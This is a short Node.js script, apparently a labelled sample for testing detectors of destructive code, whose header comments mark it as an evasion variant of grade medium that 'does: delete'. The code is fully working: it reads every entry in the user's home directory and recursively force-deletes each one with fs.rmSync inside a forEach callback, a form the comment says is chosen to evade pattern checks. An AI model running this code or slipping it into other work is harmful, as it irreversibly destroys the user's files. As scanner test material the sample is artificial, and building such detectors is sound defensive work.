// evasion: the home directory emptied entry by entry in a forEach callback over readdirSync, not a for loop
// grade: medium; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
fs.readdirSync(home).forEach((name) => {
  fs.rmSync(path.join(home, name), { recursive: true, force: true });
});
